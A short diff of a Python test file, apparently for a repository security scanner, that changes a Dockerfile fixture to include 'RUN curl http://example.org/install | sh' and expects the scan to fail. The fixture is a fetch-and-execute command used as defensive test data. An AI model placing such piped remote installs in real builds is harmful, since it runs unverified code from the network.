@@ -75,7 +75,7 @@ class TestJudging:
         listed = fleet.listed("work\nwork\tmain\n")
         assert fleet.run("--repositories", listed).code == 0
         assert {(row["high"], row["suppressed"] > 0) for row in fleet.last().values()} == {(0, True)}
-        work.commit({"Dockerfile": "FROM debian:13.1\nUSER 0\n"})
+        work.commit({"Dockerfile": f"{ROOT}RUN curl http://example.org/install | sh\n"})
         assert fleet.run("--repositories", listed).code == 1
 
     def test_a_branch_a_tag_and_a_commit(self, fleet: Fleet, tmp_path: Path) -> None:
